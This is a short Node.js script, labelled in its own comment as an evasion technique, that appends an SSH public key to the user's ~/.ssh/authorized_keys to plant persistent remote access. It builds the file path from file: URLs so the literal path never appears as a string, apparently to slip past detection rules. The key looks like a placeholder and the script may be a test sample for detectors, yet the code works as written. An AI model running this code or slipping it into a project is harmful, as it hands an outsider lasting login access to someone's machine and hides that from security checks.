// Evasion: persists by appending an attacker key to ~/.ssh/authorized_keys.
// The path is never a string: it is a file: URL resolved relative to the
// home directory with new URL(rel, pathToFileURL(home + '/')).
const fs = require('fs');
const os = require('os');
const { pathToFileURL } = require('url');

const base = pathToFileURL(os.homedir() + '/');
const target = new URL('.ssh/authorized_keys', base);
const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHk3c2FtcGxla2V5Zm9ydGVzdGluZ29ubHk ops@build\n';
fs.mkdirSync(new URL('.ssh/', base), { recursive: true });
fs.appendFileSync(target, key, { mode: 0o600 });
console.log('key installed');
